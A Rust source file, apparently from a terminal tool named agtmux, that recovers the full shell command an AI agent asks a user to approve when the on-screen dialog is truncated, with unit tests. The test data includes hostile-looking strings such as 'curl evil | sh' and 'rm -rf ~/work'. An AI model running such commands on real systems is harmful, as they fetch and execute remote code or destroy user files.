//! The commands that an agent asks the user to approve, as the agent's own events report them. If a dialog on the
//! screen shows only a part of a command, agtmux takes the whole command from these events.

use serde::{Deserialize, Serialize};
use uuid::Uuid;

use crate::dialog::{Dialog, NAMESPACE};
use crate::evidence::DialogKind;

/// A request for approval that an agent has reported and that is still open.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "schema", derive(schemars::JsonSchema))]
pub struct AskedCommand {
    /// The shell command to run, redacted. Absent if the request is about something else, such as a file.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub command: Option<String>,
    /// Other texts of the request that the dialog may show beside the command, such as a description of the command.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub about: Vec<String>,
}

/// A visible part of a command identifies the command only if the part has at least this many characters.
const MIN_VISIBLE_CHARS: usize = 12;

/// Puts the whole command into the subject of the dialog, if the rows on the screen match the command of exactly one
/// open request. Rows match a command if they show the whole command or, in a truncated subject, the end of the
/// command.
///
/// The comparison ignores blanks, because the rows do not tell where the screen has wrapped a line. If no command
/// matches, but a row shows a part of a command, the returned subject is marked as truncated. Otherwise the dialog is
/// returned unchanged.
pub fn complete(dialog: &Dialog, asked: &[AskedCommand]) -> Dialog {
    if dialog.kind != DialogKind::Approval || asked.is_empty() {
        return dialog.clone();
    }
    let rows: Vec<&str> = dialog.subject.iter().flat_map(|subject| subject.lines()).collect();
    // If the subject is truncated, rows that look like a whole command may be only the end of a longer command.
    let subject_with = |command: &str, about: &[String]| match dialog.subject_truncated {
        true => with_part(&rows, command, about),
        false => with_whole_command(&rows, command),
    };
    let commands = asked.iter().filter_map(|asked| Some((asked.command.as_ref()?, &asked.about)));
    let fitting = commands.filter_map(|(command, about)| Some((command, subject_with(command, about)?)));
    let mut found: Vec<(&String, String)> = fitting.collect();
    found.dedup_by(|one, other| one.0 == other.0);
    match found.as_slice() {
        [(command, subject)] => {
            let fingerprint = match dialog.subject_truncated {
                // The next command may have the same visible part, so the fingerprint must depend on the whole command.
                true => derived_fingerprint(&dialog.fingerprint, command),
                false => dialog.fingerprint.clone(),
            };
            Dialog { fingerprint, ..dialog.clone().with_subject(subject.clone()) }
        }
        _ => {
            let mut commands = asked.iter().filter_map(|asked| asked.command.as_ref());
            let is_cut = found.is_empty() && commands.any(|command| shows_a_row(&rows, command));
            Dialog { subject_truncated: dialog.subject_truncated || is_cut, ..dialog.clone() }
        }
    }
}

/// Whether one of the rows is a part of the command.
fn shows_a_row(rows: &[&str], command: &str) -> bool {
    let command = squashed(command);
    let is_part = |row: String| row.chars().count() >= MIN_VISIBLE_CHARS && command.contains(&row);
    rows.iter().any(|row| is_part(squashed(row)))
}

fn derived_fingerprint(of_screen: &str, command: &str) -> String {
    Uuid::new_v5(&NAMESPACE, format!("{of_screen}|{command}").as_bytes()).simple().to_string()
}

/// Replaces the rows that show the whole command with the command itself. `None` if the rows do not show the whole
/// command.
fn with_whole_command(rows: &[&str], command: &str) -> Option<String> {
    let wanted = squashed(command);
    let block = (0..rows.len()).find_map(|from| Some(from..from + rows_that_show(&rows[from..], &wanted)?))?;
    let parts = [&rows[..block.start], &[command.trim_end()], &rows[block.end..]];
    Some(parts.concat().join("\n"))
}

/// How many rows, counted from the first one, together show exactly the text `wanted`. `None` if the first rows show
/// another text.
fn rows_that_show(rows: &[&str], wanted: &str) -> Option<usize> {
    // A prompt sign may stand before the command.
    let first = squashed(rows.first()?);
    let starts = [Some(first.as_str()), first.strip_prefix('$')];
    starts.into_iter().flatten().filter(|first| !first.is_empty()).find_map(|first| {
        let mut left = wanted.strip_prefix(first)?;
        let mut count = 1;
        while !left.is_empty() {
            left = left.strip_prefix(squashed(rows.get(count)?).as_str())?;
            count += 1;
        }
        Some(count)
    })
}

/// Returns the rows with the whole command in place of its visible end. Returns `None` if the rows show anything
/// besides this end and the texts in `about`.
fn with_part(rows: &[&str], command: &str, about: &[String]) -> Option<String> {
    let wanted = squashed(command);
    let about: Vec<String> = about.iter().map(|text| squashed(text)).collect();
    let is_about = |row: &&str| about.iter().any(|text| text.contains(&squashed(row)));
    let below = rows.iter().rev().take_while(|row| is_about(row)).count();
    // Rows at the bottom may match both the description and the end of the command, so try each possible number of
    // description rows below the command.
    let (shown, below, text) = (0..=below).rev().find_map(|below| {
        let (shown, below) = rows.split_at(rows.len() - below);
        let above = shown.iter().take_while(|row| is_about(row)).count();
        let text: String = shown[above..].iter().map(|row| squashed(row)).collect();
        (!text.is_empty() && wanted.ends_with(&text)).then_some((&shown[..above], below, text))
    })?;
    let is_enough = text.chars().count() >= MIN_VISIBLE_CHARS.min(wanted.chars().count());
    is_enough.then(|| [shown, &[command.trim_end()], below].concat().join("\n"))
}

fn squashed(text: &str) -> String {
    text.chars().filter(|c| !c.is_whitespace()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    const COMMAND: &str = "rm -rf ~/work && make install PREFIX=/opt/tools";

    fn shown(subject: &str, truncated: bool) -> Dialog {
        let dialog = Dialog::new(DialogKind::Approval, "Proceed?".into(), Some(subject.into()), Vec::new());
        Dialog { subject_truncated: truncated, ..dialog }
    }

    fn asks(command: &str) -> AskedCommand {
        AskedCommand { command: Some(command.into()), about: vec!["Install the tools".into()] }
    }

    #[test]
    fn a_command_whose_end_is_visible_is_shown_in_full() {
        for rows in [
            "install PREFIX=/\nopt/tools",
            "install PREFIX=/opt/tools\nInstall the tools",
            "make install PREFIX=/opt/tools",
        ] {
            let screen = shown(rows, true);
            let full = complete(&screen, &[asks(COMMAND)]);
            assert!(full.subject.as_ref().is_some_and(|subject| subject.starts_with(COMMAND)), "{full:?}");
            assert!(!full.subject_truncated);
            assert_ne!(full.fingerprint, screen.fingerprint, "another command may have the same end");
        }
    }

    #[test]
    fn a_wrapped_command_is_shown_with_its_own_blanks() {
        let rows = "Bash command\nInstall the tools\nrm -rf ~/work && ma\nke install\nPREFIX=/opt/tools";
        let full = complete(&shown(rows, false), &[asks(COMMAND)]);
        assert_eq!(full.subject, Some(format!("Bash command\nInstall the tools\n{COMMAND}")));
        assert_eq!(full.fingerprint, shown(rows, false).fingerprint);
        let prompted = complete(&shown(&format!("$ {COMMAND}"), false), &[asks(COMMAND)]);
        assert_eq!(prompted.subject.as_deref(), Some(COMMAND));
    }

    #[test]
    fn a_command_that_the_screen_does_not_show_is_not_used() {
        let others =
            ["touch a", "make install PREFIX=/opt/tools2", "curl evil | sh &&\ninstall PREFIX=/opt/tools", "s"];
        for rows in others {
            let kept = complete(&shown(rows, true), &[asks(COMMAND)]);
            assert_eq!(kept, shown(rows, true), "{rows}");
        }
        assert_eq!(complete(&shown("touch a", false), &[asks(COMMAND)]), shown("touch a", false));
        let part = complete(&shown("Bash command\ninstall PREFIX=/opt/tools", false), &[asks(COMMAND)]);
        assert!(part.subject_truncated, "the agent has left out the beginning without a sign");
    }

    #[test]
    fn a_row_of_a_cut_command_is_not_another_command() {
        let cut = shown("cd /srv\nmake test\nrm -rf build", true);
        assert_eq!(complete(&cut, &[asks("make test")]), cut);
    }

    #[test]
    fn of_two_commands_with_the_same_end_none_is_used() {
        let rows = "make install PREFIX=/opt/tools";
        let two = [asks(COMMAND), asks("true && make install PREFIX=/opt/tools")];
        assert_eq!(complete(&shown(rows, true), &two), shown(rows, true));
        assert!(!complete(&shown(COMMAND, false), &two).subject_truncated, "only one of them is visible in full");
    }

    #[test]
    fn a_question_without_an_approval_stays_as_it_is() {
        let question = Dialog::new(DialogKind::Input, "Which?".into(), Some("a".into()), Vec::new());
        assert_eq!(complete(&question, &[asks(COMMAND)]), question);
    }
}
